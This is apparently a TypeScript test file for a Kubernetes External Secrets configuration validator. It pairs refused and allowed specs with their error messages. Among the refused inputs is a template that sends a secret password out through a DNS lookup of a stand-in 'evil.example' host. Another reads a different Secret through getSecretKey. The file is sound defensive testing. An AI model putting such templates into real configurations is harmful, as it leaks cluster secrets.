/** Lists the specs at the edge of what section `secrets` allows about External Secrets and its stores. */
import type { Case } from "./case.ts";

const STORE = { kind: "ClusterSecretStore", name: "vault" };
const REF = { key: "payments/db" };
const VAULT = { server: "https://vault.example.com", path: "secret", role: "payments" };
const AWS = { region: "eu-central-1" };

const external = (fields: object) => ({ secrets: { externalSecrets: [{ name: "db", store: STORE, data: { password: REF }, ...fields }] } });
const data = (key: string) => external({ data: { [key]: REF } });
const from = (fields: object) => external({ dataFrom: [fields] });
const template = (fields: object) => external({ target: { template: fields } });
const store = (fields: object) => ({ secrets: { stores: [{ name: "main", serviceAccount: "reader", ...fields }] } });
const vault = (server: string) => store({ vault: { ...VAULT, server } });
const aws = (fields: object) => store({ aws: { ...AWS, ...fields } });
const azure = (fields: object) => store({ azure: { vaultUrl: "https://payments.vault.azure.net", ...fields } });

const SECRETS = "spec.secrets";
const ENTRY = "spec.secrets.externalSecrets[0]";
const SOURCE = "spec.secrets.externalSecrets[0].dataFrom[0]";
const MAIN = "spec.secrets.stores[0]";

const ONE_PROVIDER = "a store has one provider: write exactly one of `vault`, `aws`, `gcp` and `azure`";
const ONE_SOURCE = "write exactly one of `extract` and `find`";
const NO_KEYS = "an external secret without keys would be empty: add `data` or `dataFrom`";
const HTTPS = "only https servers are allowed: write https://vault.example.com:8200";
const NOT_A_KEY = "not a key of a Secret: write at most 253 letters, digits";
const CREDENTIALS = "are credentials of this cluster: choose another type";
const NO_STORE = "an external secret has no store: add `secrets.store` for all of them, or `store` to each entry";

const STORE_CASES: readonly Case[] = [
  { reason: "a store without a provider asks nobody", bad: store({}), good: store({ aws: AWS }), at: MAIN, says: ONE_PROVIDER },
  {
    reason: "a store asks one provider",
    bad: store({ vault: VAULT, aws: AWS }),
    good: store({ vault: VAULT }),
    at: MAIN,
    says: ONE_PROVIDER,
  },
  {
    reason: "a store has an identity",
    bad: { secrets: { stores: [{ name: "main", aws: AWS }] } },
    good: store({ aws: AWS }),
    at: `${MAIN}.serviceAccount`,
    says: "required: add serviceAccount",
    server: `${MAIN}.serviceAccount: Required value`,
  },
  {
    reason: "a store takes no credentials",
    bad: aws({ secretRef: { name: "keys" } }),
    good: aws({}),
    at: `${MAIN}.aws.secretRef`,
    says: 'unknown field "secretRef"',
    server: 'unknown field "spec.secrets.stores[0].aws.secretRef"',
  },
  {
    reason: "stores are told apart by name",
    bad: { secrets: { stores: [0, 1].map(() => ({ name: "main", serviceAccount: "reader", aws: AWS })) } },
    good: { secrets: { stores: [0, 1].map((index) => ({ name: `main-${index}`, serviceAccount: "reader", aws: AWS })) } },
    at: "spec.secrets.stores[1]",
    says: "duplicate name",
    server: "spec.secrets.stores[1]: Duplicate value",
  },
  ...notServers().map(([bad, good, reason]) => ({ reason, bad: vault(bad), good: vault(good), at: `${MAIN}.vault.server`, says: HTTPS })),
  {
    reason: "a key vault is reached with https too",
    bad: azure({ vaultUrl: "http://payments.vault.azure.net" }),
    good: azure({}),
    at: `${MAIN}.azure.vaultUrl`,
    says: HTTPS,
  },
  {
    reason: "a tenant is a UUID",
    bad: azure({ tenantId: "payments" }),
    good: azure({ tenantId: "8A5C1D6E-0000-4000-8000-0123456789ab" }),
    at: `${MAIN}.azure.tenantId`,
    says: "The tenant's id, as `00000000-0000-0000-0000-000000000000`",
    server: `${MAIN}.azure.tenantId`,
  },
  {
    reason: "a region is no host name",
    bad: aws({ region: "evil.example.com" }),
    good: aws({ region: "us-gov-west-1" }),
    at: `${MAIN}.aws.region`,
    says: "Lower-case letters, digits and `-`, as `eu-central-1`",
    server: `${MAIN}.aws.region`,
  },
  {
    reason: "a role is named by its ARN",
    bad: aws({ role: "payments-read" }),
    good: aws({ role: "arn:aws-cn:iam::123456789012:role/team/payments-read" }),
    at: `${MAIN}.aws.role`,
    says: "as `arn:aws:iam::123456789012:role/payments-read`",
    server: `${MAIN}.aws.role`,
  },
];

const EXTERNAL_CASES: readonly Case[] = [
  {
    reason: "an external secret comes from a store",
    bad: external({ store: null }),
    good: { secrets: { store: STORE, externalSecrets: [{ name: "db", data: { password: REF } }] } },
    at: SECRETS,
    says: NO_STORE,
  },
  {
    reason: "one entry without a store is enough",
    bad: {
      secrets: { externalSecrets: ["a", "b"].map((name) => ({ name, data: { p: REF }, ...(name === "a" ? { store: STORE } : {}) })) },
    },
    good: { secrets: { externalSecrets: ["a", "b"].map((name) => ({ name, data: { p: REF }, store: STORE })) } },
    at: SECRETS,
    says: NO_STORE,
  },
  {
    reason: "external secrets are told apart by name",
    bad: { secrets: { store: STORE, externalSecrets: ["a", "a"].map((name) => ({ name, data: { p: REF } })) } },
    good: { secrets: { store: STORE, externalSecrets: ["a", "b"].map((name) => ({ name, data: { p: REF } })) } },
    at: "spec.secrets.externalSecrets[1]",
    says: "duplicate name",
    server: "spec.secrets.externalSecrets[1]: Duplicate value",
  },
  {
    reason: "an external secret holds something",
    bad: external({ data: null }),
    good: external({ data: null, dataFrom: [{ extract: REF }] }),
    at: ENTRY,
    says: NO_KEYS,
  },
  { reason: "an empty map of keys is none", bad: external({ data: {} }), good: external({}), at: ENTRY, says: NO_KEYS },
  { reason: "a source of several values is one of two", bad: from({}), good: from({ extract: REF }), at: SOURCE, says: ONE_SOURCE },
  {
    reason: "a source of several values is not both",
    bad: from({ extract: REF, find: { name: { regexp: "a" } } }),
    good: from({ find: { name: { regexp: "a" } } }),
    at: SOURCE,
    says: ONE_SOURCE,
  },
  {
    reason: "a search that fits everything fetches everything",
    bad: from({ find: { path: "payments" } }),
    good: from({ find: { path: "payments", tags: { team: "payments" } } }),
    at: `${SOURCE}.find`,
    says: "without `name` and `tags` every value would fit: add one of them",
  },
  {
    reason: "no tags fit everything too",
    bad: from({ find: { tags: {} } }),
    good: from({ find: { tags: { team: "" } } }),
    at: `${SOURCE}.find`,
    says: "without `name` and `tags` every value would fit",
  },
  {
    reason: "a tag has a name",
    bad: from({ find: { tags: { "": "x" } } }),
    good: from({ find: { tags: { ["t".repeat(253)]: "x" } } }),
    at: `${SOURCE}.find.tags`,
    says: "the name of a tag has 1 to 253 characters",
  },
  ...notDurations().map(([bad, good, reason]) => ({
    reason,
    bad: external({ refreshInterval: bad }),
    good: external({ refreshInterval: good }),
    at: `${ENTRY}.refreshInterval`,
    says: "hours, minutes and seconds as `30s`, `15m`, `1h` or `1h30m`",
    server: `${ENTRY}.refreshInterval`,
  })),
  ...notKeys().map(([bad, good, reason]) => ({ reason, bad: data(bad), good: data(good), at: `${ENTRY}.data`, says: NOT_A_KEY })),
  {
    reason: "a template reads no other Secret",
    bad: template({ data: { "a.b": '{{ getSecretKey "other" "db" "password" }}' } }),
    good: template({ data: { "a.b": "{{ .password }}" } }),
    at: `${ENTRY}.target.template.data["a.b"]`,
    says: "a template reads no Secrets by itself: remove getSecretKey, and fetch the value by `data` or `dataFrom`",
    server: "a template reads no Secrets by itself: remove getSecretKey",
  },
  {
    reason: "a template asks no name server",
    bad: template({ data: { "a.b": '{{- $x := .password -}}{{ getHostByName (printf "%s.evil.example" $x) }}' } }),
    good: template({ data: { "a.b": "{{ .host }}.example" } }),
    at: `${ENTRY}.target.template.data["a.b"]`,
    says: "a template asks no name servers, by which values could leave the cluster: remove getHostByName",
  },
  {
    reason: "a template makes keys of a Secret",
    bad: template({ data: { "a/b": "x" } }),
    good: template({ data: { "a.b": "x" } }),
    at: `${ENTRY}.target.template.data`,
    says: NOT_A_KEY,
  },
  {
    reason: "a token of a ServiceAccount is no secret from outside",
    bad: template({ type: "kubernetes.io/service-account-token" }),
    good: template({ type: "kubernetes.io/dockerconfigjson" }),
    at: `${ENTRY}.target.template.type`,
    says: CREDENTIALS,
  },
  {
    reason: "a bootstrap token lets nodes join",
    bad: template({ type: "bootstrap.kubernetes.io/token" }),
    good: template({ type: "bootstrap.kubernetes.io/tokens" }),
    at: `${ENTRY}.target.template.type`,
    says: CREDENTIALS,
  },
];

export const EXTERNAL_SECRETS_CASES: readonly Case[] = [...STORE_CASES, ...EXTERNAL_CASES];

/** Each: refused, nearest allowed, reason. */
function notServers(): [string, string, string][] {
  return [
    ["http://vault.example.com", "https://vault.example.com", "a token would travel in the clear"],
    ["vault.example.com", "https://vault", "an address without scheme"],
    ["HTTPS://vault.example.com", "https://VAULT.example.com/", "another spelling of the scheme"],
    ["https://bob:pw@vault.example.com", "https://vault.example.com:8200", "a password in an address"],
    ["https://vault.example.com?x=1", "https://vault.example.com/x/1", "a query"],
    ["https://vault.example.com#a", "https://vault.example.com/a", "a fragment"],
    ["https://", "https://v", "an address without host"],
    ["https://vault.example.com:", "https://vault.example.com:1", "a port without number"],
    ["https://fd00::1:8200", "https://[fd00::1]:8200", "IPv6 without brackets"],
    ["https://vault.example.com/ x", "https://vault.example.com/_x", "white space"],
    ["https://vault.example.com\n", "https://10.0.0.1", "a line break at the end"],
  ];
}

/** Each: refused, nearest allowed, reason. */
function notDurations(): [string, string, string][] {
  return [
    ["", "0s", "an empty duration"],
    ["60", "60s", "a duration without unit"],
    ["1d", "24h", "a unit that Kubernetes does not know"],
    ["500ms", "1s", "a unit finer than a second"],
    ["1.5h", "1h30m", "a fraction"],
    ["30m1h", "1h30m", "units in the wrong order"],
    ["-1h", "1h0m0s", "time that runs backwards"],
    ["1h 30m", "1h30m", "white space in a duration"],
    ["123456h", "12345h", "a lifetime"],
  ];
}

/** Each: refused, nearest allowed, reason. */
function notKeys(): [string, string, string][] {
  return [
    ["", "a", "an empty key"],
    [".", ".a", "the present folder"],
    ["..", "a..", "the folder above"],
    ["..data", ".data", "two dots in front"],
    ["a/b", "a.b", "a slash in a key"],
    ["a b", "a_b", "a space in a key"],
    ["pass\u00e4", "PASS-1", "a letter beyond ASCII"],
    ["a\n", "a-", "a line break behind a key"],
    ["k".repeat(254), "k".repeat(253), "a key too long"],
  ];
}
